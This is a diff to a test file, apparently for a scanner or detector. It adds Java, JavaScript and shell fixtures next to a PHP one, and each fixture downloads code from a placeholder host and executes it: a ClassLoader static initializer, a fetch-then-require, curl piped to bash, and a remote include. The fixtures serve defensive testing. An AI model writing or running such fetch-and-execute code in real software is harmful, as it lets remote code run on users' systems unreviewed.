@@ -72,6 +72,15 @@ test.each([
 
 test.each([
   [
+    "java",
+    'class A { static { try { byte[] b = new java.net.URL("https://x.example.invalid/a").openStream().readAllBytes(); new L().d(b); } catch (Exception e) {} } static class L extends ClassLoader { Class<?> d(byte[] x) { return defineClass(null, x, 0, x.length); } } }',
+  ],
+  [
+    "javascript",
+    'const { pipeline } = require("stream/promises");\nasync function up() { const r = await fetch("https://x.example.invalid/a"); await pipeline(r.body, require("fs").createWriteStream("/tmp/u.js")); require("/tmp/u.js"); }\nup();\n',
+  ],
+  ["shell", 'f=$(mktemp)\ncurl -s https://x.example.invalid/a -o "$f"\nbash "$f"\n'],
+  [
     "php",
     '<?php\nregister_shutdown_function(function () { include "https://x.example.invalid/a"; });\n',
   ],
